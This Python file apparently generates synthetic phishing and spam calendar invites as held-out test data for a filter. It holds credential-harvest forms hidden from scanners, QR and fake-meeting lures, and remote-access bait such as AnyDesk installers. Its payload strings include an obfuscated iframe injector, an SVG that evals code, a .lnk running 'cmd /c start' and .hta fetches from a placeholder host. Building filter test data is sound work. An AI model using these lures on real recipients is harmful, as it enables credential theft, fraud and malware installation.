"""Tuned spam: lures that the tuned half does not know."""
import base64

import mail as M
import mime
import qr
import shapes as S
from families import fill, tuned
from tuned_bank_2 import use


def spelled(m):
    """The number in words, or split by letters."""
    digits = [c for c in m.values["phone"] if c.isdigit()]
    names = "zero one two three four five six seven eight nine".split()
    m.text = m.text.replace("PHONE", m.r.choice((" ".join(names[int(c)] if i % 3 == 0 else c for i, c in enumerate(digits)), "\u200a".join(digits), "-".join("(%s)" % c for c in digits), "".join(chr(0xff10 + int(c)) for c in digits))))


def white_table(m):
    return fill(m, '<table bgcolor="#ffffff"><tr><td><font color="#fefefe" size="1">%s</font></td></tr><tr><td><b>[[Dossier|Akte|Espediente]] {num}</b><br><a href="{link}">[[Öffnen|Ouvrir|Apri]]</a></td></tr></table>' % " ".join(M.token(m.r, 6) for _ in range(90)))


def offscreen(m):
    return fill(m, '<div style="position:absolute;left:-9999px">Minutes, budget, canteen, parking</div><div style="opacity:0.01">%s</div><form action="{link}" method="post"><input name="u" value="{rcpt}"><input type="password" name="p"><button>Sign in</button></form>' % M.token(m.r, 30))


def jpg_wall(m):
    pics = "".join('<td><img width=8 height=8 alt="mail.%s" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP%s"></td>' % (m.rcpt.domain, M.b64(m.r, 24)) for _ in range(60))
    return fill(m, "<a href='{link}'><table><tr>%s</tr></table></a>" % pics)


def code(url_of, where, **kw):
    def do(m):
        pic = qr.qr_png(fill(m, url_of), kw.get("level", "M"), kw.get("scale", 4), 4, kw.get("color", ((255, 255, 255), (0, 0, 0))))
        if where == "cid":
            cid = M.hexs(m.r, 8) + "@qr"
            m.related.append(mime.part('image/png; name="%s.png"' % M.token(m.r, 6), pic, "base64", disposition="inline", more=[("Content-ID", "<%s>" % cid)]))
            m.html = "<html><body><center><img src='cid:%s'></center>%s</body></html>" % (cid, M.html_of(m.text))
        elif where == "alt":
            m.ev.altdesc = "<html><body>%s<div><img src='data:image/png;base64,%s'></div></body></html>" % (M.html_of(m.text), base64.b64encode(pic).decode())
        elif where == "image":
            m.ev.extra = m.ev.extra + ["IMAGE;VALUE=BINARY;ENCODING=BASE64;FMTTYPE=image/png;DISPLAY=FULLSIZE:" + base64.b64encode(pic).decode()]
        else:
            m.attachments.append(mime.part('image/png; name="code.png"', pic, "base64", disposition='attachment; filename="code.png"'))
    return do


def blob(name, ctype, text):
    def do(m):
        m.ev.extra = m.ev.extra + ["ATTACH;VALUE=BINARY;ENCODING=BASE64;FMTTYPE=%s;X-APPLE-FILENAME=%s:%s" % (ctype, name, base64.b64encode(fill(m, text).encode("latin-1", "replace")).decode())]
    return do


CHARCODES = "<html><script>var s=[104,116,116,112];setTimeout(function(){document.documentElement.innerHTML=String.fromCharCode.apply(null,s)+unescape('%3Ciframe src={link}%3E')},9)</script></html>"
SVG_ANIM = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href='javascript:top.location=\"{link}\"'><text y='20'>{order}</text></a><animate onbegin='window[\"ev\"+\"al\"](name)' attributeName='x'/></svg>"
XLSM = "PK\x03\x04" + "xl/vbaProject.bin " * 30
LNK = "L\x00\x00\x00\x01\x14\x02\x00 cmd /c start {link}"


FAMILIES = [
    tuned(1, "tollentry", attacks=[1, 34, 28], by="apple-mail java-site zimbra", sender="vps", place="soon", **use("toll")),
    tuned(1, "wirebr", attacks=[1, 34], by="roundcube php-site", sender="vps", **use("pixpt")),
    tuned(1, "nlentry", attacks=[1, 34], by="open-xchange kit-node", sender="freemail", place="soon", **use("digidnl")),
    tuned(8, "gbetting", attacks=[8, 34], by="google", sender="freemail", place="evening", **use("betting")),
    tuned(8, "gprime", attacks=[8, 39], by="google", sender="freemail", do=S.meet, **use("primecall")),
    tuned(8, "gfr", attacks=[8, 34], by="google", sender="freemail", **use("impotsfr")),
    tuned(8, "zoomevent", attacks=[8, 34], by="zoom-events eventbrite", sender="freemail", method="PUBLISH", **use("wallet")),
    tuned(8, "teamsnote", attacks=[8, 39], by="teams-notice", method=None, sender="tenant", subject=["{org} added you to the meeting \"Invoice {order}\"", "Reminder: licence call"], **use("license365")),
    tuned(17, "courtorganizer", attacks=[17, 34], by="java-site outlook-imap", sender="vps", do=lambda m: setattr(m.ev, "organizer", ("Clerk of Court", "notices@uscourts.gov")), **use("subpoena")),
    tuned(17, "taxorganizer", attacks=[17, 34], by="zimbra php-site", sender="junk", do=lambda m: setattr(m.ev, "organizer", ("Agenzia", "noreply@agenziaentrate.gov.it")), **use("pecit")),
    tuned(17, "healthorganizer", attacks=[17, 41], by="ruby-site thunderbird", sender="company", do=lambda m: setattr(m.ev, "organizer", ("Benefits", "benefits@" + m.rcpt.domain)), **use("health")),
    tuned(28, "nowde", attacks=[28, 39], by="apple-mail open-xchange", sender="freemail", place="soon", minutes=(5, 10), do=S.alarms("PT0S"), **use("virende")),
    tuned(28, "fouryears", attacks=[28, 34], by="icloud fastmail", sender="freemail", place="far", **use("timeshare")),
    tuned(28, "yesterday", attacks=[28, 34], by="outlookcom dotnet-site", sender="freemail", place="past", do=S.alarms("P2D", "P3D", "P4D"), **use("multaes")),
    tuned(28, "quarterlong", attacks=[28, 34], by="icloud zoom-events", sender="freemail", place="allday", minutes=(90 * 1440, 45 * 1440), **use("slimming")),
    tuned(34, "chainja", attacks=[34], by="icloud java-site", sender="freemail", where=["https://l.facebook.com/l.php?u={link}", "https://www.youtube.com/redirect?q={link}"], **use("etcja")),
    tuned(34, "urlproperty", attacks=[34, 41], by="fastmail dotnet-site", sender="junk", do=lambda m: setattr(m.ev, "url", m.values["link"] + "#" + base64.urlsafe_b64encode(m.rcpt.addr.encode()).decode().rstrip("=")), **use("scanner")),
    tuned(34, "titlelink", attacks=[34], by="google apple-mail", sender="freemail", who=["Club Desk"], summary=["{link} <- your seat", "go to {badhost} now", "www.{badhost}/{token}"], text=["", "see title", ""]),
    tuned(34, "ziplink", attacks=[34, 38], lang="fr", by="zimbra outlook-imap", sender="company", summary=["Plan du chantier {num}", "Photos du sinistre"], text=["Bonjour, les plans sont trop lourds pour un courriel : {link}/plans.zip (mot de passe {code})", "Téléchargez le constat : hxxps://{badhost}/{token} (remplacez xx par tt)"]),
    tuned(35, "whitetable", attacks=[35, 34], by="dotnet-site outlook-imap", sender="junk", do=S.altdesc(white_table), summary=["Termin", "Rendez-vous", "Incontro"], text=["Kurz.", "Bref.", "Breve."]),
    tuned(35, "offscreen", attacks=[35, 41], by="exchange java-site", sender="company", do=S.altdesc(offscreen), summary=["Works outing", "Fire drill"], text=["Have fun.", "Assembly point is the car park."]),
    tuned(35, "gifwall", attacks=[35], by="ruby-site m365", sender="tenant", do=S.altdesc(jpg_wall), summary=["Notice", "For {name}"], text=["(picture)", ""]),
    tuned(36, "subsidyqr", attacks=[36, 34], by="zimbra java-site", sender="junk", do=code("{link}?id={num}", "cid", color=((240, 248, 255), (0, 64, 128))), **use("subsidyzh")),
    tuned(36, "parkingqr", attacks=[36], lang="de", by="apple-mail dotnet-site", sender="vps", do=code("{link}", "image", scale=3, level="L"), who=["Parkraumüberwachung"], summary=["Parkverstoß {num}", "Zahlungserinnerung Parkplatz"], text=["Bitte mit dem Handy den Code erfassen und {small} zahlen.", "Zahlung nur über den abgebildeten Code möglich."]),
    tuned(36, "wifiqr", attacks=[36], by="outlook-imap ruby-site", sender="company", do=code("{link}#{rcpt}", "file", level="M", scale=6), who=["Facility Management"], summary=["New guest wifi", "Badge renewal"], text=["Point your camera at the attached badge code and enter your staff login.", "From Monday old badges stop. Renew with your phone: code attached."]),
    tuned(36, "whatsappqr", attacks=[36], lang="pt", by="kit-node php-site", sender="freemail", do=code("https://wa.me/0{num}?text={code}", "alt"), who=["Suporte"], summary=["Confirme seu WhatsApp", "Segundo fator"], text=["Aponte a câmera do celular para o código e confirme.", "Escaneie para liberar o saldo de {amount}."]),
    tuned(37, "charcodes", attacks=[37], by="java-site outlook-imap", sender="company", do=blob("Avis.htm", "application/octet-stream", CHARCODES), lang="fr", summary=["Avis de virement", "Relevé {num}"], text=["L'avis est joint à l'événement.", "Document joint."]),
    tuned(37, "svganim", attacks=[37], by="zimbra dotnet-site", sender="junk", do=blob("fattura.svg", "image/svg+xml", SVG_ANIM), lang="it", summary=["Fattura {order}", "Copia conforme"], text=["In allegato.", "Vedi allegato."]),
    tuned(37, "mismatch", attacks=[37], by="exchange ruby-site", sender="company", do=blob("photo.jpg", "image/jpeg", XLSM), summary=["Quote for {company}", "Measurements"], text=["Table enclosed, allow editing.", "See enclosed photo."]),
    tuned(37, "shortcut", attacks=[37], by="kit-node thunderbird", sender="vps", do=blob("Agenda.pdf.lnk", "application/pdf", LNK), summary=["Agenda", "Handover notes"], text=["Agenda enclosed.", "Notes enclosed."]),
    tuned(37, "smburi", attacks=[37], by="dotnet-site outlook-imap", sender="junk", do=S.add("ATTACH:smb://{badhost}/pub/plan.xlsx", "ATTACH;FMTTYPE=text/html:http://{badhost}/view.hta"), lang="es", summary=["Plano de obra", "Acta"], text=["Abrir el plano adjunto.", "Acta adjunta."]),
    tuned(38, "webexlook", attacks=[38, 34], by="exchange java-site", sender="junk", where=["https://meeting.webex.com-join.{badhost}/m/{token}"], summary=["Earnings preview", "Tax talk"], text=["Webex meeting\nMeeting number: 27{num}\nPassword: {code}\nJoin by browser: https://webex-web.{badhost}/join/{num}", "When it's time, join the Webex meeting here. Install the plug-in if asked: {link}"]),
    tuned(38, "teamsde", attacks=[38, 34], lang="de", by="outlook-imap dotnet-site", sender="company", where=["Microsoft Teams-Besprechung"], summary=["Lieferantengespräch", "Rückfrage zum Auftrag {num}"], text=["Microsoft Teams-Besprechung\nNehmen Sie auf dem Computer oder mit der App teil\n[Hier klicken, um der Besprechung beizutreten]({link})\nBesprechungs-ID: 3{num} {num}\nKennung: {code}", "Ihre Teams-App ist veraltet. Bitte zuerst aktualisieren: {link}/Teams_Update.exe"]),
    tuned(38, "meetfr", attacks=[38, 34], lang="fr", by="zimbra ruby-site", sender="vps", summary=["Visioconférence", "Entretien à distance"], text=["Google Meet\nRejoindre : https://meet.gogle.{badhost}/{token}\nou par téléphone {phone} PIN : {pin}#", "Participer avec Google Meet : {link}"]),
    tuned(38, "scheme", attacks=[38], by="kit-node java-site", sender="junk", do=S.add("CONFERENCE;VALUE=URI:zoommtg://{badhost}/join?confno={num}", "URL:ms-appinstaller:?source=https://{badhost}/meet.appx", "X-MS-OLK-MWSURL:{link}"), summary=["Press briefing", "Due diligence call"], text=["Zoom opens by itself.", "Accept the prompt of the browser."]),
    tuned(38, "anydesk", attacks=[38], by="thunderbird webex", sender="company", summary=["Audit of your accounting PC", "Bank integration setup"], text=["For the audit keep AnyDesk ready: {link}/anydesk-custom.exe and tell us the address shown.", "Our bank technician connects with ScreenConnect: {link}/support.ClientSetup.msi"]),
    tuned(39, "germancallback", attacks=[39], by="outlookcom icloud", sender="freemail", **use("virende")),
    tuned(39, "primeorder", attacks=[39], by="icloud yahoo fastmail", sender="freemail", **use("primecall")),
    tuned(39, "spelledout", attacks=[39], by="m365 apple-mail", sender="tenant", do=spelled, who=["Trust Account", "Coin Desk", "Renewal Board"], summary=["Receipt {order}", "{amount} from your wallet"],
            text=["Receipt for {amount}. Our people answer at PHONE.", "A coin purchase of {amount} awaits. Reject it by voice: PHONE", "Hosting for three years, {amount}. PHONE is open day and night for objections."]),
    tuned(39, "license", attacks=[39], by="m365 calendly", sender="tenant", **use("license365")),
    tuned(39, "cpf", attacks=[39], by="yahoo php-site", sender="freemail", **use("cpffr")),
    tuned(40, "golddust", attacks=[40], by="icloud fastmail apple-mail", sender="freemail", **use("gold")),
    tuned(40, "ruheir", attacks=[40], lang="ru", by="zimbra outlookcom", sender="freemail", who=["Нотариус Иванов"], summary=["Наследство", "Письмо нотариуса"], text=["Ваш дальний родственник оставил {big} долларов. Пришлите паспортные данные на {orgaddr}.", "Я нотариус. Сумма {big} USD ждёт наследника. Пишите: {orgaddr}"]),
    tuned(40, "grantde", attacks=[40], lang="de", by="open-xchange outlookcom", sender="freemail", who=["Stiftung Hoffnung", "Frau Maria E."], summary=["Schenkung", "Guten Tag"], text=["Ich bin schwer krank und möchte {big} Euro an eine ehrliche Person geben. Antworten Sie an {orgaddr}.", "Sie wurden für eine Zuwendung von {big} Euro ausgewählt. Name, Alter, Land an {orgaddr}."]),
    tuned(40, "investor", attacks=[40], by="zoom google", sender="freemail", who=["Sheikh Office", "Family Fund Dubai"], summary=["Funding for your project", "Partnership proposal"], text=["Our principal lends from {big} USD at 2 percent to serious owners. A small assurance fee applies. Mail {orgaddr}.", "We have {big} dollars to place abroad. Be our manager and keep fifteen percent. {orgaddr}"]),
    tuned(41, "fx", attacks=[41, 34], by="exchange crm", sender="company", **use("nda")),
    tuned(41, "scancopy", attacks=[41, 34], by="outlook-imap java-site", sender="spoof", **use("scanner")),
    tuned(41, "pageappeal", attacks=[41, 34], by="fastmail kit-node", sender="junk", **use("copyright")),
    tuned(41, "benefits", attacks=[41, 34], by="hr-system m365", sender="tenant", **use("health")),
    tuned(41, "telco", attacks=[41, 34], by="sogo php-site", sender="vps", **use("telekomde")),
]
